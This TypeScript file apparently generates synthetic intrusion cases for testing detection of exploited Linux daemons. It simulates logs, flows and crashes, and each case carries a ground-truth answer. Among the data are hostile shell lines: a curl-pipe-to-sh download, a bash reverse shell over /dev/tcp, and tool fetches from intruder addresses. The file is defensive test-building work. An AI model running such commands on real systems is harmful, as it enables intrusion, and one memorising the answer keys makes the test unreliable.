import type { UnixProcess } from '../acts/linux.ts';
import type { Item } from '../item.ts';
import { type Case, type CaseTruth, exploited, type Setting } from './case.ts';
import { type ACCOUNTS, LinuxServer } from './linux-server.ts';

/** How a daemon's end shows: in the kernel and systemd, in the daemon's own words, or only in a child that the daemon lost. */
type Crash =
  | { readonly kind: 'unit'; readonly unit: string }
  | { readonly kind: 'child'; readonly words?: (pid: number) => string };

/** An exploit of a Linux daemon, by what it leaves behind. Absent: nothing of the kind. */
interface Exploit {
  readonly id: string;
  readonly title: string;
  readonly truth: CaseTruth;
  readonly role: string;
  readonly port: number;
  readonly daemon: {
    readonly exe: string;
    readonly account: keyof typeof ACCOUNTS;
    readonly args: readonly string[];
    readonly unit: string;
    /** Under which it writes to the system's log. */
    readonly tag?: string;
  };
  readonly intruder: string;
  readonly burst?: readonly [count: number, failed: number];
  readonly crash?: Crash;
  /** The command line of the shell that the daemon starts; its uid is the daemon's. */
  readonly shell?: string;
  readonly next?: readonly (readonly [to: string, port: number])[];
  more?(server: LinuxServer, setting: Setting, daemon: UnixProcess): readonly Item[];
}

const truth = (...findings: CaseTruth['findings']): CaseTruth => ({ findings, nothingAbove: 'low' });

const APACHE = {
  exe: '/usr/sbin/apache2',
  account: 'www-data',
  args: ['/usr/sbin/apache2', '-k', 'start'],
  unit: 'apache2',
  tag: 'apache2',
} as const;
const SSHD = {
  exe: '/usr/sbin/sshd',
  account: 'root',
  args: ['/usr/sbin/sshd', '-D'],
  unit: 'ssh',
  tag: 'sshd',
} as const;

/** Logins that are never finished, one a second and a half, as the daemon tells of them. */
const unfinishedLogins = (server: LinuxServer, { clock, random }: Setting, intruder: string): Item[] =>
  Array.from({ length: 60 }, (_, i) => {
    const at = clock('14:18:30') + i * 1.5e6;
    const fromPort = 40_000 + i;
    const child = server.machine.child(server.sshd, '/usr/sbin/sshd');
    return [
      server.sensor.flow({
        at: at - 120e6,
        from: intruder,
        fromPort,
        to: server.ip,
        port: 22,
        seconds: 120,
        sent: 900,
        received: 1100 + random.between(0, 50),
      }),
      server.machine.syslog(
        at,
        'sshd',
        child.pid,
        `fatal: Timeout before authentication for ${intruder} port ${fromPort}`,
      ),
    ];
  }).flat();

const EXPLOITS: readonly Exploit[] = [
  {
    id: 'lin-exim',
    title: 'Exim: failing connections, crash of the service, shell, SSH to a neighbour',
    truth: truth(exploited('linux', 'mail01', 'A2 B1 C1 D1', 'critical')),
    role: 'mail01',
    port: 25,
    daemon: {
      exe: '/usr/sbin/exim4',
      account: 'Debian-exim',
      args: ['/usr/sbin/exim4', '-bd', '-q30m'],
      unit: 'exim4',
    },
    intruder: '203.0.113.77',
    burst: [34, 18],
    crash: { kind: 'unit', unit: 'exim4' },
    shell: 'id; curl -s http://203.0.113.77/x | sh',
    next: [['10.32.1.40', 22]],
  },
  {
    id: 'lin-exim-quiet',
    title: 'Exim: one complete connection, no crash, a shell, a neighbour',
    truth: truth(exploited('linux', 'mail02', 'A1 C1 D1', 'high')),
    role: 'mail02',
    port: 25,
    daemon: {
      exe: '/usr/sbin/exim4',
      account: 'Debian-exim',
      args: ['/usr/sbin/exim4', '-bd', '-q30m'],
      unit: 'exim4',
    },
    intruder: '203.0.113.78',
    shell: 'id',
    next: [['10.32.1.41', 22]],
  },
  {
    id: 'lin-apache',
    title: 'Apache: children die, a shell of www-data connects back',
    truth: truth(exploited('linux', 'web01', 'B1 C1 D4', 'high')),
    role: 'web01',
    port: 80,
    daemon: APACHE,
    intruder: '203.0.113.80',
    crash: {
      kind: 'child',
      words: pid => `[core:notice] [pid 900] AH00052: child pid ${pid} exit signal Segmentation fault (11)`,
    },
    shell: 'bash -i >& /dev/tcp/203.0.113.80/4444 0>&1',
    next: [['203.0.113.80', 4444]],
  },
  {
    id: 'lin-smbd',
    title: 'Samba: a library on a share, signal 11, a shell of root',
    truth: truth(exploited('linux', 'nas01', 'A1 B1 C1', 'high')),
    role: 'nas01',
    port: 445,
    daemon: {
      exe: '/usr/sbin/smbd',
      account: 'root',
      args: ['/usr/sbin/smbd', '--foreground'],
      unit: 'smbd',
      tag: 'smbd',
    },
    intruder: '10.32.7.66',
    crash: { kind: 'child', words: pid => `  INTERNAL ERROR: Signal 11 in pid ${pid} (4.5.8-Debian)` },
    shell: 'id',
  },
  {
    id: 'lin-redis',
    title: 'Redis: a module runs commands, then SSH inwards',
    truth: truth(exploited('linux', 'cache1', 'A1 C1 D1', 'high')),
    role: 'cache1',
    port: 6379,
    daemon: {
      exe: '/usr/bin/redis-server',
      account: 'redis',
      args: ['/usr/bin/redis-server', '*:6379'],
      unit: 'redis-server',
    },
    intruder: '10.32.7.67',
    shell: 'wget -q http://10.32.7.67/k',
    next: [['10.32.1.50', 22]],
  },
  {
    id: 'lin-mysqld',
    title: 'MySQL dies of a signal under failing connections, no shell',
    truth: truth(exploited('linux', 'db01', 'A2 B1', 'medium')),
    role: 'db01',
    port: 3306,
    daemon: { exe: '/usr/sbin/mysqld', account: 'mysql', args: ['/usr/sbin/mysqld'], unit: 'mysql', tag: 'mysqld' },
    intruder: '10.32.7.68',
    burst: [20, 11],
    crash: { kind: 'unit', unit: 'mysql' },
  },
  {
    id: 'lin-regresshion-attempt',
    title: 'sshd: unfinished logins by the dozen, a child dies, nobody gets in',
    truth: truth(exploited('linux', 'gate1', 'A2 B1', 'medium', 'medium')),
    role: 'gate1',
    port: 22,
    daemon: SSHD,
    intruder: '203.0.113.81',
    crash: { kind: 'child' },
    more: (server, setting) => unfinishedLogins(server, setting, '203.0.113.81'),
  },
  {
    id: 'lin-regresshion',
    title: 'sshd: the same, and a shell of root that nobody logged in for',
    truth: truth(exploited('linux', 'gate2', 'A2 B1 C1 D1', 'critical')),
    role: 'gate2',
    port: 22,
    daemon: SSHD,
    intruder: '203.0.113.82',
    crash: { kind: 'child' },
    shell: 'id; uname -a',
    next: [['10.32.1.60', 445]],
    more: (server, setting) => unfinishedLogins(server, setting, '203.0.113.82'),
  },
  {
    id: 'lin-php-fpm',
    title: 'nginx before PHP: a shell of the interpreter fetches a tool from the intruder',
    truth: truth(exploited('linux', 'web02', 'A1 C1 D4', 'medium')),
    role: 'web02',
    port: 443,
    daemon: { exe: '/usr/sbin/php-fpm8.2', account: 'www-data', args: ['php-fpm: pool www'], unit: 'php8.2-fpm' },
    intruder: '203.0.113.83',
    shell: 'curl -s http://203.0.113.83/a -o /tmp/a',
    next: [['203.0.113.83', 80]],
  },
  {
    id: 'lin-postgres',
    title: 'PostgreSQL: COPY … FROM PROGRAM, then a database neighbour',
    truth: truth(exploited('linux', 'db02', 'A1 C1 D1', 'high')),
    role: 'db02',
    port: 5432,
    daemon: {
      exe: '/usr/lib/postgresql/15/bin/postgres',
      account: 'postgres',
      args: ['/usr/lib/postgresql/15/bin/postgres', '-D', '/var/lib/postgresql/15/main'],
      unit: 'postgresql@15-main',
    },
    intruder: '10.32.7.69',
    shell: 'nc 10.32.1.61 3306',
    next: [['10.32.1.61', 3306]],
  },
  {
    id: 'lin-vsftpd',
    title: 'vsftpd: a back door opens a shell of root',
    truth: truth(exploited('linux', 'ftp01', 'A1 C1', 'medium')),
    role: 'ftp01',
    port: 21,
    daemon: {
      exe: '/usr/sbin/vsftpd',
      account: 'root',
      args: ['/usr/sbin/vsftpd', '/etc/vsftpd.conf'],
      unit: 'vsftpd',
    },
    intruder: '203.0.113.84',
    shell: 'id',
  },
  {
    id: 'lin-tomcat',
    title: 'Tomcat: a look-up to the intruder, then a shell of the server',
    truth: truth(exploited('linux', 'app01', 'C1 D4', 'medium')),
    role: 'app01',
    port: 8080,
    daemon: {
      exe: '/usr/lib/jvm/java-11/bin/java',
      account: 'tomcat',
      args: [
        '/usr/lib/jvm/java-11/bin/java',
        '-Dcatalina.base=/var/lib/tomcat9',
        'org.apache.catalina.startup.Bootstrap',
        'start',
      ],
      unit: 'tomcat9',
    },
    intruder: '203.0.113.85',
    shell: 'whoami',
    more: (server, { clock }, daemon) => {
      server.connect(clock('14:23:04'), daemon, '203.0.113.85', 1389, 2);
      return [];
    },
  },
];

/** 14:20:03 the access, 14:20:18 the crash, 14:23:12 the shell, 14:27:30 the next hop. */
function tell(exploit: Exploit, setting: Setting): readonly Item[] {
  const { clock, random } = setting;
  const { daemon, intruder, port } = exploit;
  const server = new LinuxServer(setting, exploit.role, `10.32.1.${random.between(20, 36)}`, [port]);
  const { machine, sensor, items } = server;
  let main = daemon.unit === 'ssh' ? server.sshd : server.daemon(daemon.exe, daemon.account, daemon.args, daemon.unit);
  if (exploit.burst !== undefined) {
    items.push(...sensor.burst(...exploit.burst, { at: clock('14:20:03'), from: intruder, to: server.ip, port }));
  }
  const flow = (at: number): Item =>
    sensor.flow({ at, from: intruder, to: server.ip, port, seconds: 25, sent: 70_000, received: 2100 });
  items.push(...(exploit.more?.(server, setting, main) ?? []));

  const at = clock('14:20:18.2');
  if (exploit.crash !== undefined) {
    if (exploit.burst === undefined && exploit.more === undefined) items.push(flow(clock('14:20:05')));
    const worker = server.workerCrashed(at, main);
    if (exploit.crash.kind === 'child') {
      const words = exploit.crash.words?.(worker.pid);
      if (words !== undefined) items.push(machine.syslog(at + 300_000, daemon.tag ?? daemon.unit, main.pid, words));
    } else {
      server.unitFailed(at + 400_000, exploit.crash.unit);
      main = server.unitStarted(at + 1.5e6, exploit.crash.unit, main, daemon.args);
    }
  }

  if (exploit.shell !== undefined) {
    if (daemon.unit !== 'ssh') items.push(flow(clock('14:22:58')));
    const shell = server.child(clock('14:23:12.6'), main, '/bin/dash', ['/bin/sh', '-c', exploit.shell], {
      comm: 'sh',
    });
    const tool = server.child(clock('14:23:13'), shell, '/usr/bin/python3', ['python3']);
    for (const [i, [to, next]] of (exploit.next ?? []).entries())
      server.connect(clock('14:27:30') + i * 20e6, tool, to, next);
  }
  return items;
}

export const LINUX_CASES: readonly Case[] = EXPLOITS.map(exploit => ({
  id: exploit.id,
  kind: 'positive',
  title: exploit.title,
  truth: exploit.truth,
  parameters: {},
  tell: setting => tell(exploit, setting),
}));
